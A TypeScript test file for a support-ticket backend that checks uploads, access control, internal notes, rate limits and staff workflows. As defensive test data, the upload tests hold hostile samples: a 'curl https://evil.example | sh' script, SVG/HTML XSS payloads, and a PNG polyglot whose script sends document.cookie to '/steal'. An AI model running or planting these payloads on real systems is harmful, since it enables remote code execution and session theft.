import { randomBytes } from 'node:crypto';
import { and, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { TICKET_MESSAGES_PER_HOUR, TICKET_OPEN_MAX } from '@skyway/shared/tickets';
import {
  auditLog,
  mailOutbox,
  telegramLinks,
  telegramOutbox,
  ticketAttachments,
  tickets,
} from '../../db/schema/index.ts';
import { type SignedInStaff, signedInStaff } from '../../testing/staff.ts';
import { later, newClientAddress, signedInUser, useTestApp, webCaller } from '../../testing/test-app.ts';
import { runTicketsJob } from './service.ts';

const DAY_S = 24 * 3600;
const b64 = (bytes: Buffer) => bytes.toString('base64');

const png = (width = 16, height = 16) =>
  sharp({ create: { width, height, channels: 3, background: '#3366ff' } })
    .png()
    .toBuffer();

/** A PNG of random pixels: it compresses to about its raw size, so a few fill a ticket's room. */
const noisyPng = (side: number) =>
  sharp(randomBytes(side * side * 3), { raw: { width: side, height: side, channels: 3 } })
    .png({ compressionLevel: 0 })
    .toBuffer();

/** A phone's photo: a JPEG whose EXIF names the camera and where it was taken. */
const jpegWithGps = () =>
  sharp({ create: { width: 32, height: 32, channels: 3, background: '#22aa44' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Phone 12' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '48/1 51/1 2400/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '2/1 21/1 700/100',
      },
    })
    .toBuffer();

describe('support tickets', () => {
  const t = useTestApp();
  const web = webCaller(() => t.app, newClientAddress);
  let support: SignedInStaff;
  let viewer: SignedInStaff;

  beforeAll(async () => {
    support = await signedInStaff(t.app, t.database, 'support');
    viewer = await signedInStaff(t.app, t.database, 'viewer');
  });

  const customer = () => signedInUser(t.database);

  let opened = 0;
  async function open(token: string, fields: Record<string, unknown> = {}) {
    opened += 1;
    return web(
      '/web/ticket/create',
      {
        subject: `Cannot connect ${opened}`,
        category: 'connection',
        priority: 'medium',
        message: 'It fails at night',
        ...fields,
      },
      token,
    );
  }

  async function openedId(token: string, fields: Record<string, unknown> = {}) {
    const reply = await open(token, fields);
    expect(reply.json()).toMatchObject({ code: 200 });
    return reply.json().data.id as string;
  }

  const thread = async (token: string, id: string) => (await web('/web/ticket/detail', { id }, token)).json();
  const download = (token: string, id: string) => web('/web/ticket/attachment', { id }, token);
  const ticketCount = async (userId: string) =>
    (await t.database.db.select().from(tickets).where(eq(tickets.userId, userId))).length;

  it('opens a ticket with a screenshot, lists it, and serves the image back only as a download', async () => {
    const { user, token } = await customer();
    const screenshot = await png();
    const reply = await open(token, { images: [b64(screenshot)], priority: 'high' });
    expect(reply.json()).toMatchObject({ code: 200, data: { state: 'open', priority: 'high' } });
    const created = reply.json().data;
    expect(created.messages).toHaveLength(1);
    const [attachment] = created.messages[0].attachments;
    expect(attachment).toMatchObject({ mime: 'image/png' });

    const list = (await web('/web/ticket/list', {}, token)).json().data;
    expect(list).toMatchObject({ total: 1, unread: 0 });
    expect(list.list[0]).toMatchObject({ id: created.id, subject: created.subject, state: 'open' });

    const file = await download(token, attachment.id);
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-disposition']).toMatch(/^attachment;/);
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    expect(file.headers['content-type']).toBe('image/png');
    const served = await sharp(file.rawPayload).metadata();
    expect([served.format, served.width, served.height]).toEqual(['png', 16, 16]);
    expect(await ticketCount(user.id)).toBe(1);
  });

  it('refuses files that lie about being images, and changes nothing', async () => {
    const { user, token } = await customer();
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    const html = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>');
    for (const bytes of [script, svg, html, Buffer.from('not base64 at all!')]) {
      const image = bytes.toString('utf8').startsWith('not') ? bytes.toString() : b64(bytes);
      const reply = await open(token, { images: [image], l: 'zh-cn' });
      expect(reply.statusCode).toBe(400);
      expect(reply.json()).toMatchObject({ code: 400, data: { reason: 'ticket_image_type' } });
      expect(reply.json().msg).toContain('PNG');
    }
    // A PNG's first bytes before random ones: it reads as a PNG by content, yet decodes as none.
    const fake = Buffer.concat([(await png()).subarray(0, 16), randomBytes(200)]);
    expect((await open(token, { images: [b64(fake)] })).json().data.reason).toBe('ticket_image_type');
    expect(await ticketCount(user.id)).toBe(0);
  });

  it('refuses an image over 5 MB with its own reason', async () => {
    const { user, token } = await customer();
    const big = Buffer.concat([(await png()).subarray(0, 64), randomBytes(6 * 1024 * 1024)]);
    const reply = await open(token, { images: [b64(big)], l: 'zh-cn' });
    expect(reply.statusCode).toBe(400);
    expect(reply.json()).toMatchObject({
      data: { reason: 'ticket_image_too_large' },
      msg: '每张图片不能超过 5 MB',
    });
    expect(await ticketCount(user.id)).toBe(0);
  });

  it('keeps a polyglot only as its pixels: the HTML appended after the PNG is gone', async () => {
    const { token } = await customer();
    const payload = '<html><script>fetch("/steal?c="+document.cookie)</script></html>';
    const polyglot = Buffer.concat([await png(), Buffer.from(payload)]);
    const reply = await open(token, { images: [b64(polyglot)] });
    expect(reply.json()).toMatchObject({ code: 200 });
    const stored = await download(token, reply.json().data.messages[0].attachments[0].id);
    expect(stored.rawPayload.includes(Buffer.from('<script>'))).toBe(false);
    expect(stored.rawPayload.includes(Buffer.from('<html>'))).toBe(false);
    expect((await sharp(stored.rawPayload).metadata()).format).toBe('png');
  });

  it('stores a photo without its EXIF, so its GPS position is not kept', async () => {
    const { token } = await customer();
    const photo = await jpegWithGps();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const reply = await open(token, { images: [b64(photo)] });
    const [attachment] = reply.json().data.messages[0].attachments;
    expect(attachment.mime).toBe('image/jpeg');
    const [row] = await t.database.db
      .select()
      .from(ticketAttachments)
      .where(eq(ticketAttachments.id, attachment.id));
    const kept = await sharp(row?.data).metadata();
    expect(kept.format).toBe('jpeg');
    expect(kept.exif).toBeUndefined();
    expect(row?.data.includes(Buffer.from('PhoneMaker'))).toBe(false);
  });

  it('answers 404 for another customer’s ticket and image, as for one that does not exist', async () => {
    const owner = await customer();
    const other = await customer();
    const opened = (await open(owner.token, { images: [b64(await png())] })).json().data;
    const attachmentId = opened.messages[0].attachments[0].id as string;
    for (const reply of [
      await web('/web/ticket/detail', { id: opened.id }, other.token),
      await web('/web/ticket/reply', { id: opened.id, message: 'mine now' }, other.token),
      await web('/web/ticket/close', { id: opened.id }, other.token),
      await download(other.token, attachmentId),
      await download(other.token, crypto.randomUUID()),
    ]) {
      expect(reply.statusCode).toBe(404);
      expect(reply.json()).toMatchObject({ code: 404, data: { reason: 'not_found' } });
    }
    expect((await web('/web/ticket/list', {}, other.token)).json().data.total).toBe(0);
    const untouched = await thread(owner.token, opened.id);
    expect(untouched.data.state).toBe('open');
    expect(untouched.data.messages).toHaveLength(1);
  });

  it('sends the reply to a customer bound to Telegram there too, and by mail unless they turned it off', async () => {
    const { user, token } = await customer();
    const chatId = 7_000_000 + Math.floor(Math.random() * 1_000_000);
    await t.database.db.insert(telegramLinks).values({ userId: user.id, chatId, mailOff: true });
    const id = await openedId(token);
    await support.call('POST', `/tickets/${id}/messages`, { message: 'INTERNAL: a note', internal: true });
    const answer = 'Your node is back: please reconnect.';
    await support.call('POST', `/tickets/${id}/messages`, { message: answer });

    const sent = await t.database.db.select().from(telegramOutbox).where(eq(telegramOutbox.chatId, chatId));
    expect(sent).toHaveLength(1);
    expect(sent[0]).toMatchObject({ kind: 'ticket_reply', userId: user.id });
    expect(sent[0]?.text).toContain(answer);
    expect(sent[0]?.text).not.toContain('INTERNAL');
    expect(await t.database.db.select().from(mailOutbox).where(eq(mailOutbox.to, user.email))).toEqual([]);
  });

  it('keeps internal notes from the customer’s list, thread and mail; mails the reply', async () => {
    const { user, token } = await customer();
    const id = await openedId(token);
    const note = 'INTERNAL: customer looks like a reseller, check payments';
    const noted = await support.call('POST', `/tickets/${id}/messages`, { message: note, internal: true });
    expect(noted.json()).toMatchObject({ code: 200, data: { state: 'open' } });
    const answer = 'Please switch to the Tokyo node and try again.';
    const answered = await support.call('POST', `/tickets/${id}/messages`, { message: answer });
    expect(answered.json().data).toMatchObject({ state: 'answered' });
    const staffView = answered
      .json()
      .data.messages.map((m: { body: string; internal: boolean }) => [m.body, m.internal]);
    expect(staffView).toEqual([
      ['It fails at night', false],
      [note, true],
      [answer, false],
    ]);

    const list = await web('/web/ticket/list', {}, token);
    expect(list.json().data).toMatchObject({ unread: 1, list: [{ id, state: 'answered', unread: true }] });
    expect(list.body).not.toContain('INTERNAL');
    const seen = await web('/web/ticket/detail', { id }, token);
    expect(seen.body).not.toContain('INTERNAL');
    expect(seen.json().data.messages.map((m: { body: string; from: string }) => [m.from, m.body])).toEqual([
      ['customer', 'It fails at night'],
      ['staff', answer],
    ]);
    // Reading the thread clears the mark.
    expect((await web('/web/ticket/list', {}, token)).json().data.unread).toBe(0);

    const mail = await t.database.db.select().from(mailOutbox).where(eq(mailOutbox.to, user.email));
    expect(mail).toHaveLength(1);
    expect(mail[0]?.template).toBe('ticket_reply');
    expect(mail[0]?.text).toContain(answer);
    expect(mail[0]?.text).toContain(`/support?ticket=${id}`);
    expect(`${mail[0]?.text}${mail[0]?.html}`).not.toContain('INTERNAL');

    // The audit rows name the action and the routing, never what was written.
    const audits = await t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.targetType, 'ticket'), eq(auditLog.targetId, id)));
    expect(audits.map((row) => row.action).sort()).toEqual(['ticket.note', 'ticket.reply']);
    expect(JSON.stringify(audits)).not.toContain('INTERNAL');
    expect(JSON.stringify(audits)).not.toContain('Tokyo');
  });

  it('lets the customer reply (back to the queue) and close; a closed ticket takes no reply', async () => {
    const { token } = await customer();
    const id = await openedId(token);
    await support.call('POST', `/tickets/${id}/messages`, {
      message: 'Which app do you use?',
      wait_for_customer: true,
    });
    expect((await thread(token, id)).data.state).toBe('waiting');
    const replied = await web(
      '/web/ticket/reply',
      { id, message: 'Clash Verge', images: [b64(await png())] },
      token,
    );
    expect(replied.json().data).toMatchObject({ state: 'open' });
    expect(replied.json().data.messages.at(-1)).toMatchObject({ from: 'customer', body: 'Clash Verge' });
    expect(replied.json().data.messages.at(-1).attachments).toHaveLength(1);
    expect((await web('/web/ticket/close', { id }, token)).json()).toMatchObject({ code: 200 });
    expect((await thread(token, id)).data.state).toBe('closed');
    const late = await web('/web/ticket/reply', { id, message: 'one more thing', l: 'zh-cn' }, token);
    expect(late.json()).toMatchObject({ code: 409, data: { reason: 'ticket_closed' } });
    expect(late.json().msg).toContain('已关闭');
    expect((await thread(token, id)).data.messages).toHaveLength(3);
  });

  it(`limits an account to ${TICKET_OPEN_MAX} open tickets`, async () => {
    const { user, token } = await customer();
    const ids = [];
    for (let i = 0; i < TICKET_OPEN_MAX; i += 1) ids.push(await openedId(token));
    const refused = await open(token, { l: 'tw-cn' });
    expect(refused.json()).toMatchObject({ code: 409, data: { reason: 'ticket_open_limit' } });
    expect(refused.json().msg).toContain('工單');
    expect(await ticketCount(user.id)).toBe(TICKET_OPEN_MAX);
    await web('/web/ticket/close', { id: ids[0] }, token);
    expect((await open(token)).json()).toMatchObject({ code: 200 });
  });

  it(`limits an account to ${TICKET_MESSAGES_PER_HOUR} messages an hour, over all its tickets`, async () => {
    const { token } = await customer();
    const first = await openedId(token);
    const second = await openedId(token);
    for (let i = 2; i < TICKET_MESSAGES_PER_HOUR; i += 1) {
      const reply = await web(
        '/web/ticket/reply',
        { id: i % 2 ? first : second, message: `more ${i}` },
        token,
      );
      expect(reply.json()).toMatchObject({ code: 200 });
    }
    const refused = await web('/web/ticket/reply', { id: first, message: 'and more', l: 'zh-cn' }, token);
    expect(refused.json()).toMatchObject({ code: 429, data: { reason: 'ticket_message_limit' } });
    expect(refused.json().msg).toContain('一小时');
    expect((await open(token)).json().data.reason).toBe('ticket_message_limit');
    expect((await thread(token, first)).data.messages).toHaveLength(TICKET_MESSAGES_PER_HOUR / 2);
    // An hour later the account may write again.
    const after = await later(3601, () =>
      web('/web/ticket/reply', { id: first, message: 'next hour' }, token),
    );
    expect(after.json()).toMatchObject({ code: 200 });
  });

  it('limits the images a ticket holds together', async () => {
    const { token } = await customer();
    // Three images of about 4.7 MB each, then two more: past the ticket's 20 MB.
    const images = await Promise.all([0, 1, 2].map(() => noisyPng(1250)));
    for (const image of images) expect(image.length).toBeLessThan(5 * 1024 * 1024);
    const id = await openedId(token, { images: images.map(b64) });
    const refused = await web(
      '/web/ticket/reply',
      { id, message: 'two more', images: images.slice(0, 2).map(b64) },
      token,
    );
    expect(refused.json()).toMatchObject({ code: 400, data: { reason: 'ticket_attachments_full' } });
    const messages = (await thread(token, id)).data.messages;
    expect(messages).toHaveLength(1);
    // Words still go through.
    expect((await web('/web/ticket/reply', { id, message: 'in words then' }, token)).json().code).toBe(200);
  }, 60_000);

  it('closes a ticket staff answered after 7 days without a word from the customer', async () => {
    const { token } = await customer();
    const silent = await openedId(token);
    const talking = await openedId(token);
    const waitingForStaff = await openedId(token);
    for (const id of [silent, talking])
      await support.call('POST', `/tickets/${id}/messages`, { message: 'Try this' });
    // Six days on, the customer of one writes back.
    await later(6 * DAY_S, () => web('/web/ticket/reply', { id: talking, message: 'Still broken' }, token));
    expect(await later(6 * DAY_S + 3600, () => runTicketsJob(t.database.db, new Date()))).toMatchObject({
      closed: 0,
    });
    await later(7 * DAY_S + 60, () => runTicketsJob(t.database.db, new Date()));
    const states = await Promise.all(
      [silent, talking, waitingForStaff].map(async (id) => (await thread(token, id)).data.state),
    );
    expect(states).toEqual(['closed', 'open', 'open']);
    const [row] = await t.database.db.select().from(tickets).where(eq(tickets.id, silent));
    expect(row?.closedBy).toBe('auto');
  });

  it('lets viewers read the queue and threads, but not reply, note, assign or close', async () => {
    const { token } = await customer();
    const id = await openedId(token);
    expect((await viewer.call('GET', `/tickets/${id}`)).json()).toMatchObject({ code: 200, data: { id } });
    for (const [path, body] of [
      [`/tickets/${id}/messages`, { message: 'from a viewer' }],
      [`/tickets/${id}/messages`, { message: 'a note', internal: true }],
      [`/tickets/${id}/assign`, { staff_id: viewer.id }],
      [`/tickets/${id}/close`, {}],
    ] as const) {
      const reply = await viewer.call('POST', path, body);
      expect(reply.statusCode).toBe(403);
      expect(reply.json()).toMatchObject({ data: { reason: 'permission_denied' } });
    }
    const after = await support.call('GET', `/tickets/${id}`);
    expect(after.json().data).toMatchObject({ state: 'open', assignee: null });
    expect(after.json().data.messages).toHaveLength(1);
  });

  it('works the queue: filters, assignment to members who may reply, closing', async () => {
    const { token } = await customer();
    // A member of their own, so `me` holds only what this test gives them.
    const worker = await signedInStaff(t.app, t.database, 'support');
    // Opened two hours ago, so it has waited longer than the other.
    const payment = await later(-2 * 3600, () => openedId(token, { category: 'payment', priority: 'high' }));
    const account = await openedId(token, { category: 'account', priority: 'low' });
    const queue = async (query = '') =>
      ((await worker.call('GET', `/tickets?size=100${query}`)).json().data.items as { id: string }[]).map(
        (item) => item.id,
      );

    const open = await queue();
    expect(open).toEqual(expect.arrayContaining([payment, account]));
    // The longest waiting first.
    expect(open.indexOf(payment)).toBeLessThan(open.indexOf(account));
    expect(await queue('&category=payment&priority=high')).toContain(payment);
    expect(await queue('&category=payment')).not.toContain(account);
    expect(await queue('&waiting_hours=1')).toContain(payment);
    expect(await queue('&waiting_hours=1')).not.toContain(account);

    const refused = await support.call('POST', `/tickets/${payment}/assign`, {
      staff_id: viewer.id,
      l: 'zh-cn',
    });
    expect(refused.json()).toMatchObject({ code: 400, data: { reason: 'ticket_assignee_invalid' } });
    const assigned = await support.call('POST', `/tickets/${payment}/assign`, { staff_id: worker.id });
    expect(assigned.json().data.assignee).toMatchObject({ id: worker.id, email: worker.email });
    expect(await queue('&assignee=me')).toEqual([payment]);
    expect(await queue('&assignee=none')).not.toContain(payment);

    const closed = await support.call('POST', `/tickets/${account}/close`);
    expect(closed.json().data.state).toBe('closed');
    expect(await queue()).not.toContain(account);
    expect(await queue('&state=closed')).toContain(account);
    expect((await thread(token, account)).data.state).toBe('closed');

    // The customer's side panel comes from the account's page.
    const page = await support.call('GET', `/users/${closed.json().data.customer.id}`);
    expect(page.json()).toMatchObject({ code: 200 });
  });

  it('keeps saved answers, and reports first-response and resolution times', async () => {
    const saved = await support.call('POST', '/saved-replies', {
      title: 'Reinstall',
      body: 'Please reinstall the app.',
    });
    expect(saved.json()).toMatchObject({ code: 200, data: { title: 'Reinstall' } });
    const savedId = saved.json().data.id as string;
    const changed = await support.call('PATCH', `/saved-replies/${savedId}`, {
      title: 'Reinstall',
      body: 'Reinstall, then import the link.',
    });
    expect(changed.json().data.body).toBe('Reinstall, then import the link.');
    const titles = (await viewer.call('GET', '/saved-replies'))
      .json()
      .data.items.map((item: { id: string }) => item.id);
    expect(titles).toContain(savedId);
    expect((await viewer.call('DELETE', `/saved-replies/${savedId}`)).statusCode).toBe(403);
    expect((await support.call('DELETE', `/saved-replies/${savedId}`)).json().code).toBe(200);

    const { token } = await customer();
    const id = await openedId(token);
    await later(600, () => support.call('POST', `/tickets/${id}/messages`, { message: 'Done' }));
    await later(1200, () => support.call('POST', `/tickets/${id}/close`));
    const times = (await viewer.call('GET', '/tickets/times?days=30')).json().data;
    expect(times.opened).toBeGreaterThan(0);
    expect(times.first_response_median_seconds).toBeGreaterThan(0);
    expect(times.resolution_median_seconds).toBeGreaterThan(0);
  });
});
